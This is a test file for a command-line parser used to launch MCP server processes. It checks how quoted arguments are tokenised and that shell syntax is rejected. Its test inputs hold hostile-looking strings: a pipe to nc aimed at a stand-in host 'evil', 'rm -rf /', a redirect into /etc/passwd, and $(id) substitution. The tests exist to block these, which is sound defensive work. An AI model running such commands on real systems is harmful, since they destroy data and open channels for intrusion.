import { describe, expect, it } from 'vitest';
import { CommandLineError, parseCommandLine } from './command-line.js';

describe('parseCommandLine', () => {
  it.each([
    ['mcp-server-everything', ['mcp-server-everything']],
    ['  npx   -y  @scope/pkg  ', ['npx', '-y', '@scope/pkg']],
    [`node '/opt/my server/index.js' --flag`, ['node', '/opt/my server/index.js', '--flag']],
    [`cmd "a \\"quoted\\" word" 'it''s'`, ['cmd', 'a "quoted" word', 'its']],
    [`cmd "back\\\\slash" "\\n stays"`, ['cmd', 'back\\slash', '\\n stays']],
    [`cmd a\\ b`, ['cmd', 'a b']],
    [`cmd '' ""`, ['cmd', '', '']],
    [`cmd '|' "; rm -rf /" '$HOME'`, ['cmd', '|', '; rm -rf /', '$HOME']],
    ['cmd *.txt ~/x', ['cmd', '*.txt', '~/x']],
  ])('%s', (line, argv) => {
    expect(parseCommandLine(line)).toEqual(argv);
  });

  it.each([
    ['', 'the command line is empty'],
    ['   ', 'the command line is empty'],
    [`cmd 'open`, 'unterminated'],
    [`cmd "open`, 'unterminated'],
    ['cmd \\', 'ends with'],
    ['cmd | nc evil 1', 'shell syntax'],
    ['cmd; touch /tmp/x', 'shell syntax'],
    ['cmd && other', 'shell syntax'],
    ['cmd > /etc/passwd', 'shell syntax'],
    ['cmd $(id)', 'shell syntax'],
    ['cmd `id`', 'shell syntax'],
  ])('refuses %j', (line, message) => {
    expect(() => parseCommandLine(line)).toThrow(CommandLineError);
    expect(() => parseCommandLine(line)).toThrow(message);
  });
});
